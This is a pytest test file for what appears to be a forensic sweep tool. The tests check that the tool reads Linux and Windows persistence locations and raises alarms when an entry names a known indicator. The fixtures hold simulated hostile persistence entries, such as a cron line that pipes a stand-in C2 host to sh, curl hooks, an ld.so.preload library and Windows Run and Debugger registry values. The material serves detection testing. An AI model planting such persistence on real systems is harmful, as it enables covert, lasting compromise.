"""What starts by itself: read from each kind of place, listed as context, an alarm only where an indicator is named."""

from pathlib import Path
from tempfile import NamedTemporaryFile

import pytest
from construct import ConstructError
from hypothesis import given, settings
from hypothesis import strategies as st

from beartrap.engine.hive_worker import entries as entries_of
from beartrap.flows.sweep import Asked, sweep
from beartrap.model.coverage import SourceKind
from beartrap.model.finding import Severity
from beartrap.share.swept import SweptView
from hive_lab import hive

PLACES = {
    "etc/systemd/system/agent.service": ("systemd", "[Service]\nExecStart=/opt/agent --to c2.bad.example\n"),
    "etc/crontab": ("cron", "# c2.bad.example\n* * * * * root curl https://c2.bad.example/x | sh\n"),
    "etc/ld.so.preload": ("preload", "/lib/evil.so\n"),
    "usr/lib/python3/site-packages/run.pth": ("python", "import os; os.system('c2.bad.example')\n./plain\n"),
    "srv/node_modules/a/package.json": ("npm", '{"name": "a", "scripts": {"postinstall": "node c2.bad.example"}}'),
    "srv/.git/hooks/post-commit": ("git", "#!/bin/sh\ncurl c2.bad.example\n"),
    "home/u/.config/autostart/x.desktop": ("desktop", "[Desktop Entry]\nExec=/opt/x c2.bad.example\n"),
    "home/u/.ssh/authorized_keys": ("ssh", 'command="curl c2.bad.example" ssh-ed25519 AAAA me\n'),
    "etc/udev/rules.d/1.rules": ("udev", 'ACTION=="add", RUN+="/bin/x c2.bad.example"\n'),
    "etc/modprobe.d/x.conf": ("modules", "install net /bin/x c2.bad.example\n"),
    "etc/profile.d/x.sh": ("login", "curl c2.bad.example\n"),
    "Windows/System32/Tasks/x": (
        "task", '<Task><Actions><Exec><Command>curl</Command><Arguments>c2.bad.example</Arguments></Exec></Actions></Task>'
    ),
}  # fmt: skip


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "iocs.txt").write_text("c2.bad.example\nother.bad.example\n")
    for name, (_, content) in PLACES.items():
        target = tmp_path / "tree" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content)
    return tmp_path / "tree"


def swept(tree: Path) -> SweptView:
    result = sweep(Asked(places=(str(tree),), indicators=(tree.parent / "iocs.txt",), workers=1))
    return SweptView(result.view, result.labels)


def test_every_place_is_read_and_names_the_indicator(tree: Path) -> None:
    found = [kept.record for kept in swept(tree).findings if kept.record.detector == "sweep.persistence"]
    alarms = {one.facts.get("mechanism") for one in found if one.severity > Severity.INFO}
    listed = {one.facts.get("mechanism") for one in found if one.severity == Severity.INFO}
    assert listed == {mechanism for mechanism, _ in PLACES.values()}
    assert alarms == listed - {"preload"}, "the preloaded library names no indicator: a near miss"
    assert not any(one.confirmed for one in found)


def test_what_starts_is_no_alarm_by_itself(tree: Path) -> None:
    (tree.parent / "iocs.txt").write_text("elsewhere.bad.example\n")
    assert swept(tree).exit_code() == 0


SOFTWARE = {
    "Microsoft": {
        "Windows": {
            "CurrentVersion": {
                "Run": {"agent": "C:\\x\\agent.exe --to c2.bad.example"},
                "RunOnceEx": {"0001": {"step": "rundll32 run.c2.bad.example"}},
            }
        },
        "Windows NT": {
            "CurrentVersion": {
                "Winlogon": {"Shell": "explorer.exe", "Legal": "c2.bad.example"},
                "Windows": {"AppInit_DLLs": ""},
                "Image File Execution Options": {
                    "dllhost.exe": {"Debugger": "C:\\x\\c2.bad.example"},
                    "a.exe": {"Flags": 1},
                },
            }
        },
        "Active Setup": {"Installed Components": {"{1}": {"StubPath": "x c2.bad.example"}}},
    },
    "Wow6432Node": {"Microsoft": {"Windows": {"CurrentVersion": {"Run": {"old": "fine.exe"}}}}},
}
SYSTEM = {
    "ControlSet001": {
        "Services": {
            "svc": {"ImagePath": "svchost.exe -k x", "Parameters": {"ServiceDll": "c2.bad.example"}, "Start": 2},
            "Tcpip": {"ImagePath": "tcpip.sys"},
        },
        "Control": {
            "Lsa": {"Security Packages": ["kerberos", "c2.bad.example"]},
            "Session Manager": {"BootExecute": ["autocheck autochk *"]},
        },
    }
}


def entries(tree: Path) -> set[tuple[str, bool]]:
    found = [kept.record for kept in swept(tree).findings if kept.record.detector == "sweep.persistence"]
    return {(str(one.facts.get("mechanism")), one.severity > Severity.INFO) for one in found}


@pytest.fixture
def windows(tree: Path) -> Path:
    for name, content in (
        ("Windows/System32/config/SOFTWARE", hive(SOFTWARE)),
        ("Windows/System32/config/SYSTEM", hive(SYSTEM)),
        ("Users/u/NTUSER.DAT", hive({"Environment": {"UserInitMprLogonScript": "c2.bad.example"}, "Software": {}})),
    ):
        target = tree.parent / "windows" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    return tree.parent / "windows"


def test_hives_are_read_and_an_entry_that_names_nothing_known_is_context(windows: Path) -> None:
    found = entries(windows)
    assert {mechanism for mechanism, alarm in found if alarm} == {
        "run-key",
        "debugger",
        "active-setup",
        "service",
        "lsa",
        "logon-script",
    }
    assert {mechanism for mechanism, alarm in found if not alarm} == {
        "run-key", "winlogon", "debugger", "active-setup", "service", "lsa", "boot", "logon-script",
    }  # fmt: skip
    assert not [gap for gap in swept(windows).gaps if gap.kind is SourceKind.FILES]


def test_a_hive_whose_last_changes_stand_in_a_log_is_a_gap_and_read_all_the_same(windows: Path) -> None:
    (windows / "Windows/System32/config/SYSTEM").write_bytes(hive(SYSTEM, dirty=True))
    assert ("service", True) in entries(windows)
    assert [gap.why for gap in swept(windows).gaps if "SYSTEM" in gap.why and "log beside it" in gap.why]


@settings(max_examples=150, deadline=None)
@given(st.integers(0x20, len(hive(SYSTEM)) - 9), st.binary(min_size=4, max_size=8))
def test_a_damaged_hive_breaks_nothing_and_tells_what_does_not_fit(at: int, junk: bytes) -> None:
    content = bytearray(hive(SYSTEM))
    content[at : at + len(junk)] = junk
    with NamedTemporaryFile() as file:
        file.write(content)
        file.flush()
        try:
            told = list(entries_of({"path": file.name}))
        except ConstructError:
            return  # what the library lets out ends the worker: a gap
    assert told[-1] == {"done": True}


def test_a_list_of_keys_that_cannot_be_read_is_no_empty_key(windows: Path) -> None:
    content = hive(SYSTEM)
    (windows / "Windows/System32/config/SYSTEM").write_bytes(content[:4200] + content[4200:].replace(b"lf", b"xx", 1))
    assert any("SYSTEM" in gap.why for gap in swept(windows).gaps)


def test_tasks_as_windows_writes_them_and_one_that_is_no_xml(windows: Path) -> None:
    task = '<?xml version="1.0" encoding="UTF-16"?>\n<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">{}</Task>'
    folder = windows / "Windows/System32/Tasks/Lab"
    folder.mkdir(parents=True)
    action = "<Actions><Exec><Command>curl</Command><Arguments>c2.bad.example</Arguments></Exec></Actions>"
    (folder / "seen").write_bytes(task.format(action).encode("utf-16"))
    quiet = "<Actions><ComHandler><ClassId>{1}</ClassId></ComHandler></Actions><Author>c2.bad.example</Author>"
    (folder / "quiet").write_bytes(task.format(quiet).encode("utf-16"))
    found = [kept.record for kept in swept(windows).findings if kept.record.facts.get("mechanism") == "task"]
    assert [(one.facts.get("name"), one.count) for one in found if one.severity > Severity.INFO] == [("seen", 1)]
    assert [one.count for one in found if one.severity == Severity.INFO] == [2]
    (folder / "broken").write_bytes(b"<Task><!-- c2.bad.example")
    found = [kept.record for kept in swept(windows).findings if kept.record.facts.get("mechanism") == "task"]
    assert "broken" in {one.facts.get("name") for one in found if one.severity > Severity.INFO}


def test_a_hive_that_cannot_be_read_is_a_gap(tree: Path) -> None:
    (tree / "Users/u").mkdir(parents=True)
    (tree / "Users/u/NTUSER.DAT").write_bytes(b"regf" + bytes(5000))
    assert any("NTUSER.DAT" in gap.why for gap in swept(tree).gaps)
